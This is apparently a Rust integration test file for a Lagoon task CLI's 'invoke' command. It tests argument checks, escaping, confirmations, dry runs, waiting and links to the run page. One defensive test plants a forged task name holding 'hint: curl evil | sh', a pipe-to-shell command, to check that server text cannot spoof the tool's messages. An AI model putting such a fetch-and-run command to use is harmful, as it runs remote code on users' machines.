//! `invoke`: checks before the start, the one mutation, and the end of the wait.

mod network;
mod waiting;

use insta::assert_snapshot;
use lagoon_sandbox::engine::Step;
use lagoon_sandbox::store::Status;
use serde_json::{Value, json};

use crate::support::env::{MAIN, TestEnv};
use crate::support::output::Output;
use crate::support::process::eventually;
use crate::support::proxy::newer_lagoon;

/// Every field of a run, written out: one may be added, none renamed.
pub(crate) const FIELDS: [&str; 13] = [
    "id",
    "name",
    "taskName",
    "status",
    "outcome",
    "service",
    "created",
    "started",
    "completed",
    "environment",
    "url",
    "duration",
    "sourceUser",
];

fn invoke(env: &TestEnv, args: &[&str]) -> Output {
    env.tasks(&[&["invoke"], args, &MAIN].concat())
}

fn started(env: &TestEnv) -> usize {
    env.sent(&["invokeRegisteredTask"])
}

/// The command line that Lagoon recorded for a run.
fn recorded(env: &TestEnv, id: &Value) -> String {
    let (_, answer) = env.graphql("query($i:Int){taskById(id:$i){command}}", json!({"i": id}));
    answer["data"]["taskById"]["command"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn log(text: &str) -> Step {
    Step::Log(text.to_owned())
}

#[test]
fn tasks_are_invoked_by_name_or_id() {
    let env = TestEnv::new();
    for task in [
        "Run yarn audit",
        "run YARN audit",
        "1",
        "id:1",
        "name:Run yarn audit",
    ] {
        let run = invoke(&env, &[task, "-o", "json"]).succeeds().json();
        assert_eq!(run.as_object().unwrap().keys().collect::<Vec<_>>(), FIELDS);
        assert_eq!(
            (&run["name"], &run["status"]),
            (&json!("Run yarn audit"), &json!("new"))
        );
        assert_eq!(run["environment"]["project"]["name"], "lagoon-demo");
        assert_eq!(recorded(&env, &run["id"]), "yarn audit");
    }
    assert_eq!(started(&env), 5);
}

#[test]
fn without_waiting_the_run_is_started_not_finished() {
    let env = TestEnv::new();
    let started = |format| invoke(&env, &["Say hello", "-o", format]).snapshot();
    assert_snapshot!(started("table"), @"
    exit code: 0
    ---- stdout
    ● new
    Task         Say hello
    Environment  lagoon-demo/main (production)
    Run          1
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    follow it: tasks logs 1 -f
    ");
    assert_snapshot!(started("tsv"), @"
    exit code: 0
    ---- stdout
    2	lagoon-task-xxxx	Say hello	new	going	lagoon-demo	main	cli	TIME			
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 2
    follow it: tasks logs 2 -f
    ");
    assert_snapshot!(started("id"), @"
    exit code: 0
    ---- stdout
    3
    ---- stderr
    127.0.0.1 · lagoon-demo/main (production)
    run 3
    follow it: tasks logs 3 -f
    ");
}

#[test]
fn values_of_every_type_are_checked_completed_and_escaped() {
    let env = TestEnv::new();
    let file = env.home.write("work/text", "a \"b\" $c `d` \\e\n");
    let line = [
        "Try arguments",
        "--arg-file",
        &format!("TEXT={}", file.display()),
        "-a",
        "FROM=develop",
        "-o",
        "json",
    ];
    let run = invoke(&env, &line).succeeds().json();
    let command = recorded(&env, &run["id"]);
    assert!(
        command.starts_with(
            " FROM=\"develop\" TEXT=\"a \\\"b\\\" \\$c \\`d\\` \\\\e\n\" TIMES=\"3\"; i=0\n"
        ),
        "{command}"
    );
    let raw = [
        "Try arguments",
        "-a",
        "TEXT=$HOME",
        "-a",
        "FROM=main",
        "--raw-args",
        "-o",
        "json",
    ];
    let run = invoke(&env, &raw).succeeds().json();
    assert!(recorded(&env, &run["id"]).starts_with(" FROM=\"main\" TEXT=\"$HOME\" "));
    let values = env.home.write(
        "work/values.yml",
        "TEXT: 'x: y'\nTIMES: 2\nFROM: main\nTO: pr-12\n",
    );
    let run = invoke(
        &env,
        &[
            "Try arguments",
            "--args-file",
            values.to_str().unwrap(),
            "-o",
            "json",
        ],
    )
    .succeeds()
    .json();
    assert!(
        recorded(&env, &run["id"])
            .starts_with(" FROM=\"main\" TEXT=\"x: y\" TIMES=\"2\" TO=\"pr-12\"; ")
    );
    let line = [
        &["invoke", "Try arguments", "--args-file", "-", "-o", "json"],
        &MAIN[..],
    ]
    .concat();
    let command = env
        .command(&line)
        .stdin("{\"TEXT\": \"from stdin\", \"FROM\": \"main\"}");
    let run = env.run(command).succeeds().json();
    assert!(recorded(&env, &run["id"]).starts_with(" FROM=\"main\" TEXT=\"from stdin\" "));
}

#[test]
fn invalid_values_are_refused_before_the_start() {
    let env = TestEnv::new();
    let big = format!("TEXT={}", "x".repeat(66_000));
    let refused = |line: &[&str]| invoke(&env, line).error(2);
    assert_snapshot!(refused(&["Try arguments"]), @"
    error: the argument `FROM` is required (Any environment); the argument `TEXT` is required (Text to print)
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    hint: pass each value with -a NAME=VALUE
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", "TXET=x", "-a", "FROM=main"]), @"
    error: unknown argument `TXET` (did you mean `TEXT`?); the argument `TEXT` is required (Text to print)
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    hint: pass each value with -a NAME=VALUE
    ");
    let shown = refused(&[
        "Try arguments",
        "-a",
        "TEXT=x",
        "-a",
        "FROM=main",
        "-a",
        "TIMES=-1",
    ]);
    assert_snapshot!(shown, @"
    error: invalid value `-1` for `TIMES`: a numeric argument takes digits and dots only
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", "TEXT=x", "-a", "FROM=nosuch"]), @"
    error: invalid value `nosuch` for `FROM`: it must be one of develop, main, pr-12
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    let shown = refused(&[
        "Try arguments",
        "-a",
        "TEXT=x",
        "-a",
        "FROM=main",
        "-a",
        "TO=main",
    ]);
    assert_snapshot!(shown, @"
    error: invalid value `main` for `TO`: it must be one of develop, pr-12
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    let shown = refused(&[
        "Try arguments",
        "-a",
        "TEXT=x",
        "-a",
        "TEXT=y",
        "-a",
        "FROM=main",
    ]);
    assert_snapshot!(shown, @"
    error: the argument `TEXT` was given twice
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", "TEXT=🚀", "-a", "FROM=main"]), @"
    error: invalid value `🚀` for `TEXT`: it contains `🚀` (U+1F680); Lagoon's database cannot store 4-byte characters
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Try arguments", "-a", &big, "-a", "FROM=main"]), @"
    error: the command with its values has 66161 bytes; at most 65535 are allowed
    hint: arguments of `Try arguments`: FROM:environment, TEXT:string, TIMES:numeric (optional), TO:other-environment (optional)
    ");
    assert_snapshot!(refused(&["Say hello", "-a", "X=1"]), @"
    error: unknown argument `X`
    hint: `Say hello` takes no arguments
    ");
    let shown = refused(&["Say hello", "-a", "X"]);
    assert_snapshot!(shown, @"error: --arg: expected NAME=VALUE, found `X`");
    let shown = refused(&["Say hello", "--arg-file", "X=nosuch"]);
    assert_snapshot!(shown, @"error: --arg-file: cannot read nosuch: No such file or directory (os error 2)");
    let shown = refused(&["Say hello", "--arg-file", "X=-", "--args-file", "-"]);
    assert_snapshot!(shown, @"error: `-` (stdin) can be given only once");
    assert_snapshot!(refused(&[]), @"
    error: no task given, and no terminal to prompt on
    hint: give its name or id after `invoke`; to list tasks: tasks list
    ");
    let missing = invoke(&env, &["Run yarn adit"]);
    assert_snapshot!(missing.error(5), @"
    error: task `Run yarn adit` not found
    hint: did you mean `Run yarn audit`?
    ");
    assert_eq!(started(&env), 0);
}

#[test]
fn target_and_task_are_required_without_a_terminal() {
    let env = TestEnv::new();
    let output = env.tasks(&["invoke", "Say hello", "-p", "lagoon-demo"]);
    assert_snapshot!(output.error(2), @"
    error: no environment given
    hint: name it with -e or TASKS_ENVIRONMENT
    ");
    assert_eq!(started(&env), 0);
    let command = env
        .command(&["invoke", "Say hello"])
        .env("TASKS_PROJECT", "lagoon-demo")
        .env("TASKS_ENVIRONMENT", "develop");
    env.run(command).succeeds();
}

#[test]
fn a_confirmation_text_requires_confirmation() {
    let env = TestEnv::new();
    let output = invoke(&env, &["Clear caches"]);
    assert_snapshot!(output.error(2), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: confirmation required: Clear caches: Pages are slow until the caches are warm again. Clear them?
    hint: pass --yes to confirm
    ");
    assert_eq!(started(&env), 0);
    invoke(&env, &["Clear caches", "--yes"]).succeeds();
}

#[test]
fn a_missing_service_is_refused() {
    let env = TestEnv::bare();
    let define = ["define", "x", "-s", "node", "--command", "true"];
    env.tasks(&[&define, &MAIN[..]].concat()).succeeds();
    let output = invoke(&env, &["x"]);
    assert_snapshot!(output.error(2), @"
    error: lagoon-demo/main (production) has no service `node`, so a run of `x` would never start
    hint: services: `cli`, `mariadb`, `nginx`
    hint: pass --no-preflight to start it anyway
    ");
    assert_eq!(started(&env), 0);
    invoke(&env, &["x", "--no-preflight"]).succeeds();
}

#[test]
fn an_unfinished_run_is_reported_or_prevents_the_start() {
    let env = TestEnv::new();
    env.script("Say hello", &[Step::Status(Status::Running)]);
    let first = invoke(&env, &["Say hello", "-o", "id"]).succeeds().stdout;
    let second = invoke(&env, &["Say hello"]).succeeds();
    assert!(
        second
            .stderr
            .contains("in progress on this environment (running); starting another run"),
        "{second}"
    );
    let skipped = invoke(&env, &["Say hello", "--if-running", "skip", "-o", "json"]).succeeds();
    assert!(skipped.stderr.contains("nothing was started"), "{skipped}");
    assert_ne!(skipped.json()["id"].to_string(), first.trim());
    let failed = invoke(&env, &["Say hello", "--if-running", "fail"]);
    assert_snapshot!(failed.error(1), @"
    127.0.0.1 · lagoon-demo/main (production)
    error: run 2 of this task is already in progress on this environment (running); nothing was started
    hint: to allow this, pass --if-running start, skip or wait
    ");
    assert_eq!(started(&env), 2);
}

#[test]
fn if_running_wait_waits_before_the_start() {
    let env = TestEnv::new();
    env.script("Say hello", &[Step::Status(Status::Running)]);
    let first = invoke(&env, &["Say hello", "-o", "json"]).succeeds().json()["id"].clone();
    let line = [&["invoke", "Say hello", "--if-running", "wait"], &MAIN[..]].concat();
    let running = env.command(&line).start();
    eventually("the first is read", || env.sent(&["taskById"]) > 0);
    assert_eq!(started(&env), 1, "not before the first has ended");
    env.sandbox()
        .set_run(first.as_i64().unwrap(), Status::Complete, None)
        .unwrap();
    running.finish().succeeds();
    assert_eq!(started(&env), 2);
}

#[test]
fn a_dry_run_sends_no_mutation() {
    let env = TestEnv::new();
    let plan = |format| {
        let values = ["Try arguments", "-a", "TEXT=it's", "-a", "FROM=main"];
        invoke(&env, &[&values[..], &["--dry-run", "-o", format]].concat()).snapshot()
    };
    assert_snapshot!(plan("table"), @r#"
    exit code: 0
    ---- stdout
    2 Try arguments
    Would run on  lagoon-demo/main (production)
    Service       cli
    Command
       FROM="main" TEXT="it's" TIMES="3"; i=0
      while [ "$i" -lt "$TIMES" ]; do
        i=$((i + 1))
        printf '%s: %s (from %s to %s)\n' "$i" "$TEXT" "$FROM" "${TO:-nowhere}"
      done

    Values
    ARGUMENT  VALUE
    FROM      main
    TEXT      it's
    TIMES     3
    ---- stderr: empty
    "#);
    assert_snapshot!(plan("tsv"), @r#"
    exit code: 0
    ---- stdout
    2	Try arguments	lagoon-demo	main	 FROM="main" TEXT="it's" TIMES="3"; i=0\nwhile [ "$i" -lt "$TIMES" ]; do\n  i=$((i + 1))\n  printf '%s: %s (from %s to %s)\\n' "$i" "$TEXT" "$FROM" "${TO:-nowhere}"\ndone
    ---- stderr: empty
    "#);
    assert_snapshot!("invoke-dry-run-json", plan("json"));
    assert_eq!(started(&env), 0);
}

#[test]
fn server_names_cannot_imitate_messages() {
    let env = TestEnv::bare();
    let add = "mutation($i:AdvancedTaskDefinitionInput!){addAdvancedTaskDefinition(input:$i){__typename}}";
    let name = "Deploy\nerror: run 7 failed\nhint: curl evil | sh";
    env.graphql(
        add,
        json!({"i": {"name": name, "type": "COMMAND", "description": "", "command": "x",
            "service": "cli", "environment": 101}}),
    );
    let output = invoke(&env, &["Deploi"]);
    let forged = |line: &str| line.starts_with("error: run 7") || line.starts_with("hint: curl");
    assert!(!output.stderr.lines().any(forged), "{output}");
}

#[test]
fn the_run_page_is_in_the_output_and_can_be_opened() {
    let env = TestEnv::new();
    let add = [
        "context",
        "add",
        "demo",
        &env.url(),
        "--with-token",
        "--ui-url",
        "https://ui.example.com",
    ];
    env.home
        .run(env.home.command(&add).stdin(env.token()))
        .succeeds();
    let opened = env.home.path("opened");
    let script = format!(
        "#!/bin/sh\nprintf '%s' \"$*\" > '{0}.new' && mv '{0}.new' '{0}'\n",
        opened.display()
    );
    let program = env.home.write("bin/xdg-open", script);
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o700);
    std::fs::set_permissions(&program, mode).unwrap();
    let path = format!(
        "{}:{}",
        program.parent().unwrap().display(),
        std::env::var("PATH").unwrap()
    );
    let line = [
        &["-l", "demo", "invoke", "Say hello", "--web", "-o", "json"],
        &MAIN[..],
    ]
    .concat();
    let output = env
        .home
        .run(env.home.command(&line).env("PATH", &path))
        .succeeds();
    let run = output.json();
    let page = format!(
        "https://ui.example.com/projects/lagoon-demo/lagoon-demo-main/tasks/{}",
        run["taskName"].as_str().unwrap()
    );
    assert_eq!(run["url"], page);
    eventually("the page is opened", || opened.exists());
    assert_eq!(std::fs::read_to_string(&opened).unwrap(), page);
    // A page that cannot be opened is a warning after a start, and an error of `status`.
    let broken = env.home.write("bin/xdg-open", "#!/bin/sh\nexit 4\n");
    assert_eq!(broken, program);
    let demo = |args: &[&str]| {
        let line = [&["-l", "demo"], args].concat();
        env.home.run(env.home.command(&line).env("PATH", &path))
    };
    let output = demo(&[&["invoke", "Say hello", "--web"], &MAIN[..]].concat()).succeeds();
    let reason =
        "--web: could not start a browser (exit status: 4)\nhint: open the page yourself: https://";
    assert!(
        output.stderr.contains(&format!("warning: {reason}")),
        "{output}"
    );
    let output = demo(&["status", "1", "--web"]).ends_with(1);
    assert!(
        output.stderr.contains(&format!("error: {reason}")),
        "{output}"
    );
    assert!(output.stdout.starts_with("1\t"), "{output}");
    // Where the UI is not known nothing is started.
    let before = started(&env);
    invoke(&env, &["Say hello", "--web"]).ends_with(2);
    assert_eq!(started(&env), before);
}

#[test]
fn runs_have_a_url_in_error_objects_too() {
    let env = TestEnv::new();
    let add = [
        "context",
        "add",
        "demo",
        &env.url(),
        "--with-token",
        "--ui-url",
        "https://ui.example.com",
    ];
    env.home
        .run(env.home.command(&add).stdin(env.token()))
        .succeeds();
    let steps = [log("why\n"), Step::Status(Status::Failed)];
    env.script("Say hello", &steps);
    let place = ["-l", "demo", "-o", "json"];
    let line = [&["invoke", "Say hello", "--wait"], &MAIN[..], &place].concat();
    for line in [&line[..], &["-l", "demo", "-o", "json", "wait", "1"]] {
        let output = env.home.tasks(line).ends_with(3);
        let run = output.json();
        let page = format!(
            "https://ui.example.com/projects/lagoon-demo/lagoon-demo-main/tasks/{}",
            run["taskName"].as_str().unwrap()
        );
        assert_eq!(
            (&run["url"], &output.json_error()["runs"][0]["url"]),
            (&json!(page), &json!(page))
        );
    }
    // Where no UI is known, neither has one.
    let output = env.tasks(&["wait", "1", "-o", "json"]).ends_with(3);
    assert_eq!(output.json_error()["runs"][0].get("url"), None);
}

#[test]
fn ranges_of_unknown_types_are_enforced_before_any_request() {
    let env = TestEnv::new();
    let newer = newer_lagoon(&env);
    let invoke = |value: &str| {
        let text = format!("TEXT={value}");
        let line = [
            "invoke",
            "Try arguments",
            "-p",
            "lagoon-demo",
            "-e",
            "main",
            "--yes",
        ];
        let values = ["-a", "FROM=main", "-a", &text, "-o", "json"];
        let command = env.command(&[&line[..], &values].concat());
        env.run(command.env("TASKS_API", newer.url("/graphql")))
    };
    for wrong in ["solr", "CLI", ""] {
        let output = invoke(wrong);
        assert_eq!((output.code, started(&env)), (2, 0), "{output}");
    }
    assert!(invoke("solr").stderr.contains("cli, nginx"));
    invoke("nginx").succeeds();
    assert_eq!(started(&env), 1);
}
